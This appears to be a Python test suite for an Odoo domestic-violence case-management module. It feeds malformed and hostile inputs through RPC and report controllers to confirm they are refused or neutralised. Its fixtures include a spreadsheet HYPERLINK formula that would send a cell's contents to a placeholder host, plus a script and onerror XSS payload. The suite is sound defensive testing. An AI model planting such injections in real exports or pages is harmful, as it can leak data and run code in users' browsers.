"""Bad inputs through the real RPC interface, one row each: those only the
web client's RPC layer and the controllers show. The inputs an Odoo test
sends the same way as the same user (refusals of the application, e-mail at
the intake alias, HTML sanitising) are in tests/test_bad_input.py
(TestBadInputs) and the tests named in ELSEWHERE.

A row is either refused (an error of the application with a clear message;
for errors of Odoo's ORM or PostgreSQL the class and the message named
here) and leaves nothing behind: no table gains a row and the records it
aimed at are unchanged; or accepted but neutralised (a formula stays text in
the workbook, a script is escaped in the printed minutes), which its check
proves.

The table is plain data with small functions; tests/static/test_load_suite.py
checks its shape without Odoo.
"""

import io
import json
import re
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from rpc import Client, RpcError

FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
SCRIPT = '<script>alert("dv")</script><img src="x" onerror="alert(1)">'
TESTS = "tests/test_bad_input.py::TestBadInputs::"
INTAKE = "tests/test_referral_intake.py::"
# The rows that moved into Odoo tests, other than the refusals of the table
# in TestBadInputs (whose keys are the rows' keys): where each is proved.
ELSEWHERE = {
    "statistics_threshold_default": TESTS + "test_accepted_and_neutralised",
    "script_in_safety_plan": TESTS + "test_accepted_and_neutralised",
    "script_in_note": TESTS + "test_accepted_and_neutralised",
    "script_in_conference_note": TESTS + "test_accepted_and_neutralised",
    "mail_unknown_sender": INTAKE + "test_unregistered_sender_creates_nothing",
    "mail_other_company_police": TESTS + "test_mail_not_taken",
    "mail_lookalike_sender": TESTS + "test_mail_not_taken",
    "mail_sender_no_address": TESTS + "test_mail_not_taken",
    "mail_unknown_alias": TESTS + "test_mail_not_taken",
    "mail_not_a_mail": TESTS + "test_mail_not_taken",
    "mail_unit_in_body": INTAKE + "test_source_is_the_sender_never_the_body",
    "mail_repeat_proposed": INTAKE
    + "test_mailed_repeat_writes_nothing_into_the_case_until_joined",
    "mail_sent_twice": INTAKE + "test_same_message_twice_is_processed_once",
    "mail_garbage_body": INTAKE + "test_garbage_message_still_becomes_a_referral",
    "mail_incident_in_future": TESTS + "test_mail_kept_for_completion",
    "mail_overlong_reference": TESTS + "test_mail_kept_for_completion",
}


@dataclass(frozen=True)
class Row:
    key: str
    what: str
    user: str
    action: object  # action(users, fixtures) -> result
    expect: str = "refused"  # or "neutralised"
    error: str = ""  # refused: the exception's class name ends with this
    german: str = ""  # refused: part of the message the user reads
    check: object = None  # neutralised: check(fixtures, result, sql) -> problem or None
    grows: tuple = ()  # neutralised: tables that may gain rows
    watch: object = None  # watch(fixtures) -> (table, ids) that must stay unchanged
    tags: tuple = field(default_factory=tuple)


class Fixtures:
    """Ids from the setup and the dates of the moment (Berlin, as the users)."""

    def __init__(self, setup):
        self.setup = setup
        self.f = setup["fixtures"]
        self.office = setup["agencies"]["office"]
        self.police = setup["agencies"]["police"]
        self.company = setup["companies"]["a"]
        self.now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
        self.today = datetime.now(ZoneInfo("Europe/Berlin")).date()
        self.worker = setup["helpers"]["helper_caseworker"]["uid"]
        self.serial = 0

    def next(self):
        self.serial += 1
        return f"BAD-{self.now:%H%M%S}-{self.serial:03d}"

    def inbound(self, **values):
        vals = {
            "source_type": "police",
            "from_agency_id": self.police,
            "to_agency_id": self.office,
            "company_id": self.company,
            "received_at": (self.now - timedelta(hours=1)).strftime(
                "%Y-%m-%d %H:%M:%S"
            ),
            "police_reference": self.next(),
            "legal_basis": "consent",
            "consent_date": str(self.today),
            "victim_name": f"Testperson {self.next()}",
        }
        vals.update(values)
        return vals


# Actions of the refused rows: a call as the case worker, with values built
# from the fixtures.


def create(model, **values):
    """A case worker's creation of ``model``; a value given as a function of
    the fixtures is filled in."""

    def action(u, f):
        vals = {k: v(f) if callable(v) else v for k, v in values.items()}
        return u["caseworker"].call(model, "create", vals)

    return action


def office(f):
    return f.office


def worker(f):
    return f.worker


def case_new(f):
    return f.f["case_new"]


def missing_case(u, _f):
    return u["caseworker"].call(
        "dv.case", "write", [987654321], {"case_type": "family"}
    )


def formula_in_statistics(u, f):
    """An agency named like a formula, chosen as the workbook's filter: the
    overview sheet names it."""
    agency = u["manager"].call(
        "dv.agency",
        "create",
        {
            "name": FORMULA,
            "agency_type_id": f.setup["agency_type_counselling"],
            "company_id": f.company,
        },
    )
    wizard = u["caseworker"].call(
        "dv.statistics.wizard",
        "create",
        {
            "date_from": f"{f.today.year}-01-01",
            "date_to": f"{f.today.year}-12-31",
            "company_ids": [(6, 0, [f.company])],
            "agency_ids": [(6, 0, [agency])],
        },
    )
    status, _ctype, body = u["caseworker"].download(
        f"/report/xlsx/dv_case_management.statistics_xlsx/{wizard}"
    )
    return {"status": status, "cells": _cells(body)}


def formula_in_list_export(u, f):
    """A police reference like a formula in the referral list, exported to
    Excel with Odoo's list export."""
    reference = '=HYPERLINK("http://example.invalid","Akte")'
    referral = u["caseworker"].call(
        "dv.referral", "create", f.inbound(police_reference=reference)
    )
    client = u["caseworker"]
    _status, _ctype, page = client.download("/odoo")
    token = re.search(rb"csrf_token\W+([0-9a-f]+o[0-9]+)", page)
    params = {
        "model": "dv.referral",
        "fields": [
            {"name": "name", "label": "Name"},
            {"name": "police_reference", "label": "AZ"},
        ],
        "ids": [referral],
        "domain": [],
        "groupby": [],
        "import_compat": False,
    }
    response = client.http.post(
        client.base_url + "/web/export/xlsx",
        data={
            "data": json.dumps(params),
            "csrf_token": token.group(1).decode() if token else "",
        },
        timeout=client.timeout,
    )
    return {
        "status": response.status_code,
        "cells": _cells(response.content),
        "referral": referral,
        "uid": client.uid,
    }


def _cells(body):
    import openpyxl  # noqa: PLC0415 - only the formula rows read workbooks

    try:
        book = openpyxl.load_workbook(io.BytesIO(body))
    except Exception:
        return None
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def check_formula(_f, result, _sql):
    if result["status"] != 200 or result["cells"] is None:
        return f"no workbook (HTTP {result['status']})"
    formulas = [value for value, kind in result["cells"] if kind == "f"]
    if formulas:
        return f"{len(formulas)} formula cell(s) in the workbook"
    if not any(
        isinstance(v, str) and v.startswith("=HYPERLINK") for v, _k in result["cells"]
    ):
        return "the text is missing from the workbook"
    return None


def check_exported(f, result, sql):
    """The list export is neutralised, and it is in the access log: one entry
    for the exported referral, by the user who exported it."""
    problem = check_formula(f, result, sql)
    if problem:
        return problem
    [(entries,)] = sql(
        "SELECT count(*) FROM dv_access_log WHERE res_model = 'dv.referral' "
        "AND res_id = %s AND user_id = %s",
        [result["referral"], result["uid"]],
    )
    return None if entries == 1 else f"{entries} access log entries for the export"


def minutes_with_script(u, f):
    line = u["manager"].call(
        "dv.conference.agenda.item",
        "create",
        {
            "conference_id": f.f["conference"],
            "case_id": f.f["case_new"],
            "decisions": SCRIPT,
        },
    )
    status, _ctype, body = u["manager"].download(
        f"/report/html/dv_case_management.report_conference_minutes/{f.f['conference']}"
    )
    return {"line": line, "status": status, "html": body.decode("utf-8", "replace")}


def check_minutes(_f, result, _sql):
    if result["status"] != 200:
        return f"minutes not printed (HTTP {result['status']})"
    if '<script>alert("dv")' in result["html"] or 'onerror="alert' in result["html"]:
        return "script reaches the minutes unescaped"
    return (
        None
        if "&lt;script&gt;" in result["html"]
        else "decisions missing from the minutes"
    )


# What the RPC layer makes of values the web client never sends (an unknown
# key, text where a date, an id or a number belongs, a record that does not
# exist) and of a row the database refuses: the error the web client shows,
# and the whole call rolled back. key: (what, action, error, message part).
# fmt: off
RPC_LAYER = {
    "unknown_field": (
        "an unknown field key",
        create("dv.case", lead_agency_id=office, user_id=worker, geheimfeld=1),
        "ValueError", "Invalid field 'geheimfeld'"),
    "date_as_word": (
        "a date written as a word",
        create("dv.case", lead_agency_id=office, user_id=worker, opened_on="gestern"),
        "InvalidDatetimeFormat", "gestern"),
    "relation_as_text": (
        "a relation given as a name instead of an id",
        create("dv.case", lead_agency_id="Interventionsstelle Lastdorf",
               user_id=worker),
        "InvalidTextRepresentation", "Interventionsstelle"),
    "unknown_selection": (
        "a gender that is no option",
        create("dv.person", case_id=case_new, name="Testperson Auswahl",
               gender="alien"),
        "ValueError", "Wrong value for dv.person.gender"),
    "number_as_word": (
        "an age written as a word",
        create("dv.person", case_id=case_new, name="Testperson Zahl",
               age_estimate="zehn"),
        "ValueError", "zehn"),
    "missing_name": (
        "a person without a name (the database's not-null, as a German "
        "ValidationError)",
        create("dv.person", case_id=case_new, role="other"),
        "ValidationError", "Pflichtfeld"),
    "missing_record": (
        "writing to a case that does not exist",
        missing_case,
        "MissingError", "dv.case(987654321,)"),
}
# fmt: on

ROWS = (
    *(
        Row(key, what, "caseworker", action, error=error, german=german)
        for key, (what, action, error, german) in RPC_LAYER.items()
    ),
    # Formulas in fields that end up in xlsx, through the controllers
    Row(
        "formula_in_statistics",
        "an agency named like a formula, in the statistics workbook",
        "manager",
        formula_in_statistics,
        expect="neutralised",
        check=check_formula,
        grows=(
            "dv_agency",
            "dv_statistics_wizard",
            "dv_agency_dv_statistics_wizard_rel",
            "dv_statistics_wizard_res_company_rel",
            "mail_message",
            "mail_alias",
        ),
    ),
    Row(
        "formula_in_list_export",
        "a police reference like a formula, in the Excel list export",
        "caseworker",
        formula_in_list_export,
        expect="neutralised",
        check=check_exported,
        grows=(
            "dv_referral",
            "dv_case",
            "dv_person",
            "dv_access_log",
            "mail_message",
            "mail_activity",
        ),
    ),
    # Script in the printed minutes (the report controller)
    Row(
        "script_in_minutes",
        "script in the decisions of the minutes (text)",
        "manager",
        minutes_with_script,
        expect="neutralised",
        check=check_minutes,
        grows=("dv_conference_agenda_item",),
    ),
)

# Tables whose row counts show whether a refused input left something behind.
EXTRA_TABLES = (
    "mail_message",
    "mail_mail",
    "mail_activity",
    "ir_attachment",
    "calendar_event",
    "mail_alias",
)


def _counts(sql, tables):
    union = " UNION ALL ".join(f"SELECT '{t}', count(*) FROM \"{t}\"" for t in tables)
    return dict(sql(union))


def _snapshot(sql, target):
    if not target:
        return None
    table, ids = target
    return sql(
        f'SELECT row_to_json(t)::text FROM "{table}" t WHERE id = ANY(%s) ORDER BY id',
        [ids],
    )


def evaluate(row, result, error):
    """None when the row behaved as expected, else what went wrong (the
    neutralisation check is separate)."""
    if row.expect == "refused":
        if error is None:
            return "accepted"
        if error.kind != "refused" or not error.name.endswith(row.error):
            return f"wrong error {error.name}: {error.message[:100]}"
        if row.german and row.german not in error.message:
            return f"unclear message: {error.message[:100]}"
        return None
    if error is not None:
        return f"error {error.name}: {error.message[:100]}"
    return None


def run_table(url, db, setup, sql):
    """Run every row; returns counts and report lines."""
    helpers = setup["helpers"]
    users = {
        key: Client(
            url,
            db,
            helpers[f"helper_{key}"]["login"],
            helpers[f"helper_{key}"]["password"],
        )
        for key in {row.user for row in ROWS}
    }
    # Signed in before the first row: a sign-in is logged (dv_signin_log).
    for client in users.values():
        client.authenticate()
    fixtures = Fixtures(setup)
    tables = [
        row[0]
        for row in sql(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' "
            "AND table_name LIKE 'dv\\_%%'"
        )
    ] + list(EXTRA_TABLES)
    report, refused, neutralised, accepted = [], 0, 0, 0
    for row in ROWS:
        before = _counts(sql, tables)
        target = row.watch(fixtures) if row.watch else None
        watched = _snapshot(sql, target)
        result = error = None
        try:
            result = row.action(users, fixtures)
        except RpcError as exc:
            error = exc
        problem = evaluate(row, result, error)
        if problem is None and row.expect == "neutralised":
            problem = row.check(fixtures, result, sql)
        after = _counts(sql, tables)
        grown = sorted(
            t for t in tables if after[t] != before[t] and t not in row.grows
        )
        if problem is None and grown:
            problem = f"left rows behind in {', '.join(grown)}"
        if problem is None and _snapshot(sql, target) != watched:
            problem = f"changed {target[0]} {target[1]}"
        if problem is None and row.expect == "refused":
            refused += 1
            shown = error.message.splitlines()[0][:110]
            kind = error.name.rsplit(".", 1)[-1]
            report.append(f"  bad input ok   {row.key}: refused ({kind}) {shown}")
        elif problem is None:
            neutralised += 1
            report.append(f"  bad input ok   {row.key}: accepted and neutralised")
        else:
            accepted += 1
            report.append(f"  bad input FAIL {row.key}: {problem}")
    return {
        "total": len(ROWS),
        "refused": refused,
        "neutralised": neutralised,
        "accepted": accepted,
        "report": report,
    }
